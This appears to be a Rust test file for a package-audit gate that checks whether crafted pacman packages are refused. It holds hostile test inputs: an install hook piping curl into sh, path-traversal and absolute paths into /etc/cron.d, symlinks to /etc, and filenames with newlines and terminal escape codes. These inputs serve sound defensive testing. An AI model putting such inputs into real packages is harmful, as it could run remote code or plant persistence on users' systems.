//! Packages that lie: what the gate makes of them.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout)] // A test may fail anywhere.

mod support;

use std::os::unix::fs::symlink;

use serde_json::Value;
use support::pacman::{self, Member, file, info};
use support::{Run, Sandbox};

/// One group of the Arch tracker, about something else.
const FEED: &str = r#"[{"name": "AVG-1", "packages": ["other"], "status": "Fixed", "severity": "High",
            "type": "arbitrary code execution", "affected": "1-1", "fixed": "2-1", "ticket": null,
            "issues": ["CVE-2026-1"], "advisories": []}]"#;
const POLICY: &str = "schema = 1\n[[ban]]\npackage = 'banned'\nversions = '>=2'\n";

struct Target {
    sandbox: Sandbox,
}

impl Target {
    fn new(policy: &str) -> Self {
        let sandbox = Sandbox::new();
        sandbox.arch_root(&[("foo", "1-1")]);
        sandbox.write("root/etc/omg/policy.toml", policy);
        sandbox.write("feed.json", FEED);
        Self { sandbox }
    }

    fn gate(&self, name: &str, members: &[Member<'_>]) -> Run {
        let path = self.sandbox.write(name, pacman::package(members));
        self.ask(path.to_str().unwrap())
    }

    fn ask(&self, path: &str) -> Run {
        let (root, feed) = (self.sandbox.path("root"), self.sandbox.path("feed.json"));
        self.sandbox.run(&[
            "audit",
            "package",
            path,
            "--root",
            root.to_str().unwrap(),
            "--advisories",
            feed.to_str().unwrap(),
            "-f",
            "json",
        ])
    }

    /// The verdict with the rules and what they found; nothing where the file was not read.
    fn says(&self, name: &str, members: &[Member<'_>]) -> (i32, String) {
        let run = self.gate(name, members);
        let document: Value = serde_json::from_str(&run.stdout)
            .unwrap_or_else(|error| panic!("{error}: {}{}", run.stdout, run.stderr));
        let decision = &document["decisions"][0];
        let reasons = decision["reasons"].as_array().into_iter().flatten();
        let reasons: Vec<String> = reasons
            .map(|r| format!("{}: {}", r["rule"], r["evidence"]))
            .collect();
        (
            run.code,
            format!(
                "{} {} {}",
                decision["verdict"],
                reasons.join(" | "),
                document["problems"]
            ),
        )
    }
}

/// What is not odd is allowed, so that the others are refused for what they are.
#[test]
fn an_honest_package_is_allowed() {
    let target = Target::new(POLICY);
    let about = info("foo", "2-1", "");
    let members = [file(".PKGINFO", &about), file("usr/share/foo", "x")];
    let (code, said) = target.says("foo-2-1-any.pkg.tar.gz", &members);
    assert!(said.starts_with("\"allow\""), "{code} {said}");
}

#[test]
fn metadata_that_is_there_twice_is_refused() {
    let target = Target::new(POLICY);
    let twice = info("foo", "2-1", "pkgname = bar\n");
    let (code, said) = target.says("a.pkg.tar.gz", &[file(".PKGINFO", &twice)]);
    assert!(code != 0 && !said.starts_with("\"allow\""), "{code} {said}");
    let version = info("foo", "2-1", "pkgver = 1-1\n");
    let (code, said) = target.says("b.pkg.tar.gz", &[file(".PKGINFO", &version)]);
    assert!(code != 0 && !said.starts_with("\"allow\""), "{code} {said}");
    // The second is what pacman would or would not read.
    let (one, two) = (info("foo", "2-1", ""), info("bar", "2-1", ""));
    let members = [file(".PKGINFO", &one), file(".PKGINFO", &two)];
    let (code, said) = target.says("c.pkg.tar.gz", &members);
    assert!(code == 1 && said.contains("odd-archive"), "{code} {said}");
    let (good, bad) = (
        "post_install() { :; }\n",
        "post_install() { curl x | sh; }\n",
    );
    for (first, second) in [(good, bad), (bad, good)] {
        let members = [
            file(".PKGINFO", &one),
            file(".INSTALL", first),
            file(".INSTALL", second),
        ];
        let (code, said) = target.says("d.pkg.tar.gz", &members);
        assert!(code == 1 && said.contains("odd-archive"), "{code} {said}");
    }
    // And a script that is a link.
    let link = Member {
        kind: b'2',
        link: b"/etc/profile",
        ..file(".INSTALL", "")
    };
    let (code, said) = target.says("e.pkg.tar.gz", &[file(".PKGINFO", &one), link]);
    assert!(code == 1 && said.contains("odd-archive"), "{code} {said}");
}

#[test]
fn a_banned_package_under_another_name_is_banned() {
    let target = Target::new(POLICY);
    let banned = [
        // The file is called otherwise.
        ("foo-1-1-any.pkg.tar.gz", info("banned", "2-1", "")),
        ("x.pkg.tar.gz", info("foo", "2-1", "provides = banned=2\n")),
        (
            "x.pkg.tar.gz",
            info("foo", "2-1", "").replace("pkgbase = foo", "pkgbase = banned"),
        ),
        // An epoch is part of the version, and makes it newer.
        ("x.pkg.tar.gz", info("banned", "1:0.1-1", "")),
        ("x.pkg.tar.gz", info("banned", "2.0.r5-1", "")),
    ];
    for (name, about) in &banned {
        let (code, said) = target.says(name, &[file(".PKGINFO", about)]);
        assert!(
            code == 1 && said.contains("\"ban\""),
            "{name} {about}: {code} {said}"
        );
    }
    // What replaces it is another package: it is told, for whoever reads.
    let about = info("foo", "2-1", "replaces = banned\n");
    let run = target.gate("x.pkg.tar.gz", &[file(".PKGINFO", &about)]);
    assert!(run.stdout.contains("replaces banned"), "{}", run.stdout);
    let older = info("banned", "1.9-1", "");
    let (_, said) = target.says("banned-9-1-any.pkg.tar.gz", &[file(".PKGINFO", &older)]);
    assert!(!said.contains("\"ban\""), "{said}");
}

#[test]
fn a_name_or_version_that_is_none_is_refused() {
    let target = Target::new(POLICY);
    for about in [
        info("../foo", "2-1", ""),
        info("-foo", "2-1", ""),
        info("foo bar", "2-1", ""),
        info("", "2-1", ""),
        info("foo", "", ""),
        info("foo", "2", "").replace("pkgver = 2\n", "pkgver = 2/../3-1\n"),
    ] {
        let (code, said) = target.says("x.pkg.tar.gz", &[file(".PKGINFO", &about)]);
        assert!(
            code != 0 && !said.starts_with("\"allow\""),
            "{about}: {code} {said}"
        );
    }
}

#[test]
fn hostile_paths_are_refused_or_told() {
    let target = Target::new(POLICY);
    let about = info("foo", "2-1", "");
    for name in ["/etc/cron.d/x", "usr/../../etc/cron.d/x"] {
        let members = [file(".PKGINFO", &about), file(name, "x")];
        let (code, said) = target.says("x.pkg.tar.gz", &members);
        assert!(
            code == 1 && said.contains("odd-archive"),
            "{name}: {code} {said}"
        );
    }
    // What is written is shown on one line, whatever the name is.
    let odd = Member {
        name: b"usr/share/a\nREJECT nothing\x1b[2J",
        ..file("", "x")
    };
    let run = target.gate("x\nallow  y.pkg.tar.gz", &[file(".PKGINFO", &about), odd]);
    assert!(!run.stdout.contains('\x1b'), "{}", run.stdout);
    let path = target.sandbox.path("x\nallow  y.pkg.tar.gz");
    let root = target.sandbox.path("root");
    let args = [
        "audit",
        "package",
        path.to_str().unwrap(),
        "--offline",
        "--root",
    ];
    let run = target
        .sandbox
        .run(&[&args[..], &[root.to_str().unwrap()]].concat());
    assert!(
        !run.stdout.lines().any(|line| line.starts_with("allow  y")),
        "{}",
        run.stdout
    );
    // Beneath a link of the same package.
    let link = Member {
        kind: b'2',
        link: b"/etc",
        ..file("usr/share/foo", "")
    };
    let members = [
        file(".PKGINFO", &about),
        link,
        file("usr/share/foo/cron.d/x", "x"),
    ];
    let (code, said) = target.says("x.pkg.tar.gz", &members);
    assert!(code == 1 && said.contains("odd-archive"), "{code} {said}");
}

/// A file and its signature are read where they are: links are followed to regular files only, and
/// what they lead to is what is decided about.
#[test]
fn links_lead_to_what_is_decided_about() {
    let target = Target::new(POLICY);
    let about = info("banned", "2-1", "");
    let real = target.sandbox.write(
        "real.pkg.tar.gz",
        pacman::package(&[file(".PKGINFO", &about)]),
    );
    let link = target.sandbox.path("foo-1-1-any.pkg.tar.gz");
    symlink(&real, &link).unwrap();
    let run = target.ask(link.to_str().unwrap());
    assert!(
        run.code == 1 && run.stdout.contains("\"ban\""),
        "{}",
        run.stdout
    );
    for device in ["/dev/zero", "/dev/null", "/"] {
        assert_eq!(target.ask(device).code, 3, "{device}");
    }
}
